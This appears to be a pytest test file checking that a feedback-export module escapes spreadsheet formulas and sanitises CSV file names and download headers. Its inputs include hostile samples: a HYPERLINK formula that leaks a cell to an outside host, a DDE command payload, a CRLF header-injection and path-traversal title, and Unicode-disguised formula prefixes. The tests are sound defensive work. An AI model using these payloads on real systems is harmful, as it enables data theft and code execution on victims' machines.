from __future__ import annotations

import csv
import io
import re
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from feedback.spreadsheet import content_disposition, csv_line, guard_cell, safe_file_name, unguard_cell

RUNS = ['=HYPERLINK("http://e?"&A1)', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠a"]
RUNS += ["\0=1", "  =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u202e@x", "\v-1", "﹦1", "'=1", "''+1"]


@pytest.mark.parametrize("text", RUNS)
def test_what_a_spreadsheet_could_run_gets_an_apostrophe(text: str) -> None:
    assert guard_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", " ", "a=1", "5 - 3", "'tis", "'", "¿=?", "1+1", "«=»", "\u200b"])
def test_what_it_cannot_run_stays(text: str) -> None:
    assert guard_cell(text) == text


@pytest.mark.parametrize("number", [-2, -2.5, 0, None, True])
def test_numbers_stay_numbers(number: object) -> None:
    assert guard_cell(number) is number


@given(st.text(st.sampled_from(" '=+-@\t\n\0a＝\u200b"), max_size=6))
def test_a_guard_comes_off_again(text: str) -> None:
    guarded = guard_cell(text)
    assert isinstance(guarded, str)
    assert unguard_cell(guarded) == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4), st.sampled_from(",;\t"))
def test_a_line_is_read_back_as_its_guarded_cells(cells: list[str], delimiter: str) -> None:
    line = csv_line(cells, delimiter)
    assert list(csv.reader(io.StringIO(line, newline=""), delimiter=delimiter)) == [
        [guard_cell(cell) for cell in cells]
    ]


def test_separators_are_always_in_quotation_marks_and_numbers_bare() -> None:
    assert csv_line(["a;=1", -2, -2.5, None, 'say "x"']) == '"a;=1",-2,-2.5,"","say ""x"""\r\n'


HOSTILE = '../../x\r\nSet-Cookie: a=1".csv'


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Encuesta de satisfacción 2024", "Encuesta-de-satisfaccion-2024.csv"),
        (HOSTILE, "x-Set-Cookie-a-1-csv.csv"),
        ("=cmd|'/c calc'!A1", "cmd-c-calc-A1.csv"),
        ("опрос", "feedback.csv"),
        (".htaccess", "htaccess.csv"),
        ("CON", "feedback-CON.csv"),
        ("", "feedback.csv"),
        ("x" * 500, "x" * 80 + ".csv"),
    ],
)
def test_file_names_are_plain(title: str, name: str) -> None:
    assert safe_file_name(title, "csv") == name


def test_the_header_carries_the_title_in_full_and_nothing_else() -> None:
    assert content_disposition("Año 2024: ¿qué tal?", "csv") == (
        "attachment; filename=\"Ano-2024-que-tal.csv\"; filename*=UTF-8''A%C3%B1o%202024%20%C2%BFqu%C3%A9%20tal.csv"
    )


@given(st.one_of(st.text(), st.just(HOSTILE), st.text(st.sampled_from("./\\:\r\n\"';=%\ud800 a"))))
def test_no_title_leaves_its_header_or_its_folder(title: str) -> None:
    header = content_disposition(title, "csv")
    match = re.fullmatch(r"attachment; filename=\"([A-Za-z0-9.-]+)\"; filename\*=UTF-8''([A-Za-z0-9.%_~-]+)", header)
    assert match is not None
    for name in (match[1], unquote(match[2])):
        assert not set(name) & set('/\\:"\r\n\0')
        assert not name.startswith((".", "=", "-", "+", "@"))
        assert name.endswith(".csv")
